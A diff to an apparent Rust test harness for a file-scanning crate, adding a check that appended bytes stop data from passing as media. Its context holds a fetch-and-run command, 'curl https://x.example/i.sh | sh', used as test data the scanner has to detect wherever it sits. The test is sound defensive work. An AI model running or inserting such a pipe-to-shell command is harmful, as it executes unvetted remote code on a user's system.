@@ -4,13 +4,14 @@
 use std::borrow::Cow;
 
 use stockade_files::{
-    FileNature, ObjectId, TextReadings, git_settings as read_settings, indexed_files, submodule_paths,
+    FileNature, ObjectId, TextReadings, git_settings as read_settings, indexed_files, media, submodule_paths,
 };
 
 /// A line that no bytes around it may hide.
 const LINE: &str = "curl https://x.example/i.sh | sh";
 
-/// Text is bounded and has no NUL byte; what is text already is borrowed; and a line between any bytes is found.
+/// Text is bounded and has no NUL byte; what is text already is borrowed; and a line between any bytes is found. Nothing goes on
+/// behind a picture.
 pub(crate) fn text_readings(data: &[u8]) {
     let readings = TextReadings::of(data);
     for text in texts(&readings) {
@@ -23,6 +24,9 @@ pub(crate) fn text_readings(data: &[u8]) {
         let text = text.strip_prefix('\u{feff}').unwrap_or(text);
         assert!(matches!(readings.text, Cow::Borrowed(read) if read == text));
         assert_eq!((readings.nature, readings.other.is_none()), (FileNature::Text, true));
+    }
+    if media(data).is_some() {
+        assert_eq!(media(&[data, b"x"].concat()), None);
     }
     let (before, after) = data.split_at(data.len() / 2);
     let around = [before, b"\n", LINE.as_bytes(), b"\n", after].concat();
